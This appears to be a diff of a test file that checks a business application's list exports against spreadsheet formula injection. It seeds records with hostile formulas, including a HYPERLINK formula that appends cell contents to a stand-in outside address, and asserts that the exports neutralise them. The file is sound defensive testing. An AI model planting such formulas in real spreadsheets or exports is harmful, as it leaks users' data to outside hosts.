@@ -16,8 +16,8 @@ from .common_hostile import fill, own_models, text_fields
 
 FORMULAS = [
     "=1+¤",
-    "{=1+1}",
-    '=HYPERLINK("http://x.example/"&A1,"Bấm vào đây")',
+    "{=1+¤}",
+    '=HYPERLINK("http://x.example/"&A¤,"Bấm vào đây")',
     "@SUM(1+¤)",
     "+1+¤",
     "-1+¤",
@@ -66,7 +66,7 @@ class TestHostileExports(PatientCase, AccessCommon):
         self.authenticate("admin", "admin")
         for model in own_models(self.env):
             own = model.with_user(self.admin).with_context(
-                allowed_company_ids=self.admin.company_ids.ids
+                allowed_company_ids=self.company.ids
             )
             if not own.has_access("read"):
                 continue
@@ -103,7 +103,7 @@ class TestHostileExports(PatientCase, AccessCommon):
         ]
         for cell in cells:
             self.assertNotEqual(cell.data_type, "f", cell.coordinate)
-        return sum(str(cell.value).startswith(("=1+", "{=1+1}")) for cell in cells)
+        return sum(str(cell.value).startswith(("=1+", "{=1+")) for cell in cells)
 
     def test_lists(self):
         fill(self.env, FORMULAS)
@@ -118,7 +118,7 @@ class TestHostileExports(PatientCase, AccessCommon):
                     for cell in row:
                         self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t")))
                 models += 1
-        self.assertGreater(models, 35)
+        self.assertGreater(models, 30)
         self.assertGreater(found, 100, "they are there, as text")
 
     def test_the_text_is_what_was_typed(self):
